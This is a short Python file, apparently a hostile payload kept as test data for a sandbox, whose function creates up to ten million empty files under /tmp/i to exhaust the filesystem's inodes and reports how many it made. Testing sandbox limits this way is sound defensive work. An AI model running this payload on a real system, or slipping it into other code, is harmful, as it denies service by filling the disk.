# ruff: noqa  (hostile payload: data for the sandbox, not project code)
"""Create empty files until the filesystem runs out of inodes; report the count."""

import os


def attack():
    made = 0
    try:
        os.makedirs("/tmp/i", exist_ok=True)
        while made < 10_000_000:
            open(f"/tmp/i/{made}", "w").close()
            made += 1
    except OSError as exc:
        return {"files": made, "error": type(exc).__name__}
    return {"files": made, "error": None}
